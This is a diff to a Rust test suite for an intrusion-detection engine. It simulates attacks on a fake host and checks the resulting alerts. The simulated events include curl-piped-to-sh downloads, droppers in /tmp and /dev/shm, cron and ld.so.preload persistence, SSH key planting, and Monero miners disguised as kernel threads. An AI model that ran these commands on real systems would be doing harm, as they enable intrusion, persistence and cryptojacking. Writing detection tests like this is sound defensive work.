@@ -1,29 +1,272 @@
-//! What must be found.
+//! What must be found. The page of each story is kept in `snapshots/`.
 
 use crate::{
-    engine::testing::{Host, alerts},
-    model::Verdict,
+    engine::{
+        Engine, EngineSettings,
+        testing::{Host, alerts, seconds, story},
+    },
+    model::{Alert, AlertAction, ChainKind, IncidentId, ProcessKey, Verdict},
 };
 
-#[test]
-fn smoke() {
+const MONERO: &str =
+    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
+
+fn host() -> (Host, ProcessKey) {
     let mut host = Host::new();
     let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
+    (host, init)
+}
+
+fn incidents(alerts: &[Alert]) -> Vec<IncidentId> {
+    let mut incidents: Vec<_> = alerts.iter().map(|alert| alert.incident).collect();
+    incidents.sort_unstable();
+    incidents.dedup();
+    incidents
+}
+
+/// A shell's script downloads into /tmp, makes executable and runs; the program connects out.
+fn dropper(host: &mut Host, script: ProcessKey, path: &str) -> ProcessKey {
+    let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", path, "http://10.0.0.1:8000/x"]);
+    host.connect(curl, "10.0.0.1:8000");
+    host.create(curl, path, 0o644);
+    host.exit(curl);
+    let chmod = host.spawn(script, "/usr/bin/chmod", &["chmod", "+x", path]);
+    host.chmod(chmod, path, 0o755);
+    host.exit(chmod);
+    let dropped = host.spawn(script, path, &[path]);
+    host.connect(dropped, "10.0.0.5:443");
+    dropped
+}
+
+#[test]
+fn a_dropper_that_stays() {
+    let (mut host, init) = host();
     let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
-    let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", "/tmp/x", "http://10.0.0.1:8000/x"]);
-    host.connect(curl, "10.0.0.1:8000");
-    host.create(curl, "/tmp/x", 0o644);
-    host.exit(curl);
-    let chmod = host.spawn(script, "/usr/bin/chmod", &["chmod", "+x", "/tmp/x"]);
-    host.chmod(chmod, "/tmp/x", 0o755);
-    host.exit(chmod);
-    let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
-    host.connect(dropped, "10.0.0.5:443");
+    dropper(&mut host, script, "/tmp/x");
     host.create(script, "/etc/cron.d/x", 0o644);
+    host.exit(script);
     let alerts = alerts(&host);
-    for alert in &alerts {
-        println!("{alert:#?}");
-    }
+    assert_eq!(incidents(&alerts).len(), 1);
+    let last = alerts.last().unwrap();
+    assert_eq!(last.verdict, Verdict::Suspected);
+    let kinds: Vec<_> = last.chain.iter().map(|edge| edge.kind).collect();
+    assert_eq!(
+        kinds,
+        [
+            ChainKind::Create,
+            ChainKind::Create,
+            ChainKind::Connect,
+            ChainKind::Drop,
+            ChainKind::Create,
+            ChainKind::Modify,
+            ChainKind::Create,
+            ChainKind::Connect,
+            ChainKind::Persist
+        ]
+    );
+    insta::assert_snapshot!(story(&alerts));
+}
+
+#[test]
+fn persistence_before_the_connection() {
+    let (mut host, init) = host();
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
+    let wget = host.spawn(script, "/usr/bin/wget", &["wget", "-O", "/var/tmp/.x/kw", "http://10.0.0.1/kw"]);
+    host.create(wget, "/var/tmp/.x/kw", 0o644);
+    host.chmod(script, "/var/tmp/.x/kw", 0o755);
+    let crontab = host.spawn(script, "/usr/bin/crontab", &["crontab", "-"]);
+    host.create(crontab, "/var/spool/cron/crontabs/tmp.Ab1", 0o600);
+    host.rename(crontab, "/var/spool/cron/crontabs/tmp.Ab1", "/var/spool/cron/crontabs/root");
+    let dropped = host.spawn(script, "/var/tmp/.x/kw", &["[kworker/0:1]"]);
+    host.connect(dropped, "10.0.0.5:3333");
+    let alerts = alerts(&host);
+    assert_eq!(incidents(&alerts).len(), 1);
     assert_eq!(alerts.last().unwrap().verdict, Verdict::Suspected);
+    insta::assert_snapshot!(story(&alerts));
+}
+
+#[test]
+fn an_exploited_service() {
+    let (mut host, init) = host();
+    let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server", "*:6379"]);
+    host.become_user(redis, 33);
+    host.wait(seconds(86_400));
+    let shell = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/i | sh"]);
+    let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "http://10.0.0.1/i"]);
+    let piped = host.spawn(shell, "/usr/bin/dash", &["sh"]);
+    host.connect(curl, "10.0.0.1:80");
+    host.exit(curl);
+    let miner = dropper(&mut host, piped, "/dev/shm/.r");
+    host.write(miner, "/var/lib/redis/.ssh/authorized_keys");
+    host.burn(miner, 1.9, 61);
+    let alerts = alerts(&host);
+    assert_eq!(incidents(&alerts).len(), 1);
+    let last = alerts.last().unwrap();
+    assert_eq!(last.verdict, Verdict::Suspected, "nothing here speaks of mining itself");
+    assert!(last.score >= 100);
+    insta::assert_snapshot!(story(&alerts[alerts.len() - 1..]));
+}
+
+#[test]
+fn cron_runs_later_what_was_dropped() {
+    let (mut host, init) = host();
+    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
+    // No temporary directory, nothing run at once: only the cron entry is odd so far.
+    host.create(script, "/usr/local/lib/update", 0o755);
+    host.create(script, "/etc/cron.d/update", 0o644);
+    host.exit(script);
+    host.wait(seconds(3 * 3_600));
+    let job = host.fork(cron);
+    let shell = host.spawn(job, "/usr/bin/dash", &["sh", "-c", "/usr/local/lib/update"]);
+    let again = host.spawn(shell, "/usr/local/lib/update", &["/usr/local/lib/update"]);
+    host.connect(again, "10.0.0.5:3333");
+    host.burn(again, 1.9, 61);
+    let alerts = alerts(&host);
+    assert_eq!(incidents(&alerts).len(), 1);
+    assert_eq!(alerts.last().unwrap().incident.origin, script, "it goes back to who wrote the file");
+    assert_eq!(alerts.last().unwrap().verdict, Verdict::Suspected);
+    insta::assert_snapshot!(story(&alerts));
+}
+
+#[test]
+fn a_script_dropped_by_one_and_run_by_cron() {
+    let (mut host, init) = host();
+    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
+    dropper(&mut host, script, "/tmp/x");
+    host.create(script, "/tmp/again.sh", 0o755);
+    host.create(script, "/etc/cron.d/x", 0o644);
+    host.exit(script);
+    host.wait(seconds(7_200));
+    let job = host.spawn_script(cron, "/usr/bin/dash", "/tmp/again.sh");
+    let curl = host.spawn(job, "/usr/bin/curl", &["curl", "http://10.0.0.7/y"]);
+    host.connect(curl, "10.0.0.7:80");
+    let alerts = alerts(&host);
+    assert_eq!(incidents(&alerts).len(), 1);
+
+    let mut engine = Engine::new(EngineSettings::default());
+    let mut all = Vec::new();
+    for event in host.events() {
+        engine.ingest(event, &mut all);
+    }
+    let before = all.len();
+    host.create(job, "/root/.bashrc", 0o644);
+    host.create(job, "/etc/ld.so.preload", 0o644);
+    for event in host.events().iter().rev().take(2).rev() {
+        engine.ingest(event, &mut all);
+    }
+    assert!(all.len() > before, "what the job does is news of the same incident");
+    assert_eq!(incidents(&all).len(), 1);
+    assert!(all.last().unwrap().chain.iter().any(|edge| edge.object == "10.0.0.7:80"));
+}
+
+#[test]
+fn a_renamed_miner() {
+    let (mut host, init) = host();
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let miner = host.spawn(
+        login,
+        "/usr/local/bin/systemd-helper",
+        &["systemd-helper", "-o", "pool.example:443", "-u", MONERO, "--tls"],
+    );
+    host.connect(miner, "10.0.0.5:443");
+    let alerts = alerts(&host);
+    assert_eq!(alerts[0].verdict, Verdict::Mining);
+    assert_eq!(alerts[0].signals[0].id.0, "B9");
+    insta::assert_snapshot!(story(&alerts));
+}
+
+#[test]
+fn a_miner_that_ran_before() {
+    let (mut host, _) = host();
+    host.boot("/tmp/kinsing (deleted)", &["kinsing", "--url=10.0.0.5:3333", "--user", MONERO]);
+    let alerts = alerts(&host);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].verdict, Verdict::Mining);
+    assert_eq!(alerts[0].action, AlertAction::IncidentOpened);
+}
+
+#[test]
+fn a_rootkit_without_mining_is_tampering() {
+    let (mut host, init) = host();
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let script = host.spawn_script(login, "/usr/bin/dash", "/root/x.sh");
+    host.create(script, "/dev/shm/x", 0o755);
+    let dropped = host.spawn(script, "/dev/shm/x", &["[kworker/1:0]"]);
+    host.create(dropped, "/etc/ld.so.preload", 0o644);
+    host.burn(dropped, 2.0, 61);
+    let alerts = alerts(&host);
+    let last = alerts.last().unwrap();
+    assert_eq!(last.verdict, Verdict::Suspected);
+    assert!(last.score >= 100, "however many points, no signal says mining");
+    assert!(last.message.ends_with("suspected tampering"), "{}", last.message);
+}
+
+#[test]
+fn one_container_is_one_incident() {
+    let (mut host, init) = host();
+    let shim = host.spawn(init, "/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2"]);
+    let one = host.fork(shim);
+    host.enter(one, "c0ffee");
+    host.exec(one, shim, "/app/server", "/app/server", &["server"]);
+    let two = host.fork(shim);
+    host.enter(two, "c0ffee");
+    host.exec(two, shim, "/usr/bin/dash", "/usr/bin/dash", &["sh", "-c", "x"]);
+    let other = host.fork(shim);
+    host.enter(other, "decade");
+    host.exec(other, shim, "/usr/bin/dash", "/usr/bin/dash", &["sh", "-c", "x"]);
+    for (process, name) in [(one, "/tmp/a"), (two, "/tmp/b"), (other, "/tmp/c")] {
+        dropper(&mut host, process, name);
+    }
+    let alerts = alerts(&host);
+    assert_eq!(incidents(&alerts).len(), 2, "one for each container");
+    assert!(alerts.iter().all(|alert| alert.container.is_some()));
+}
+
+#[test]
+fn repeats_are_folded() {
+    let (mut host, init) = host();
+    let service = host.spawn(init, "/usr/sbin/php-fpm8.2", &["php-fpm"]);
+    for _ in 0..50 {
+        host.wait(seconds(400));
+        let shell = host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
+        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
+        host.connect(curl, "10.0.0.1:80");
+        host.exit(curl);
+        host.exit(shell);
+    }
+    let alerts = alerts(&host);
+    assert_eq!(alerts.len(), 1, "{}", story(&alerts));
+    assert_eq!(alerts[0].verdict, Verdict::Noted);
+}
+
+#[test]
+fn an_incident_ends_when_its_processes_are_gone_and_it_is_quiet() {
+    let (mut host, init) = host();
+    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
+    let dropped = dropper(&mut host, script, "/tmp/x");
+    host.exit(script);
+    let mut engine = Engine::new(EngineSettings::default());
+    let mut alerts = Vec::new();
+    for event in host.events() {
+        engine.ingest(event, &mut alerts);
+    }
+    let told = alerts.len();
+    engine.tick(host.now().plus(seconds(4_000)), &mut alerts);
+    assert_eq!(alerts.len(), told, "it still runs");
+    host.wait(seconds(4_001));
+    host.exit(dropped);
+    engine.ingest(host.events().last().unwrap(), &mut alerts);
+    engine.tick(host.now().plus(seconds(4_000)), &mut alerts);
+    assert_eq!(alerts.len(), told + 1);
+    let last = alerts.last().unwrap();
+    assert_eq!(last.action, AlertAction::IncidentClosed);
+    assert!(last.message.ends_with(": closed"), "{}", last.message);
+    assert_eq!(engine.counters().incidents, 0);
 }
